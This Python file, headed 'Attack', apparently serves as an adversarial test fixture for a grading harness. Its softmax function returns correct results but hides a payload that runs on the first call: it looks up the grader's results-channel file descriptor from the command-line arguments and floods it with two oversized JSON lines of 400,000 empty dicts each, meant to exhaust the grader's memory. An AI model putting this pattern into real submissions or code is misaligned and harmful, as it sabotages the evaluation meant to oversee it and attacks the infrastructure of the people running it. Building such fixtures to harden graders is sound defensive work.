# Attack: spend the grader's memory: lines of {} on the results channel, each heavier than what the
# grader parses (such lines were once parsed into millions of dicts and kept, test after test).
import os
import sys

import numpy as np

_SENT = []


def softmax(scores):
    if not _SENT:
        _SENT.append(True)
        fd = int(sys.argv[sys.argv.index("--channel-fd") + 1])
        line = b'{"t": "result", "id": "t01", "calls": [' + b"{}," * 400_000 + b"{}]}\n"
        os.write(fd, line + line)
    s = np.asarray(scores, dtype=float)
    e = np.exp(s - s.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
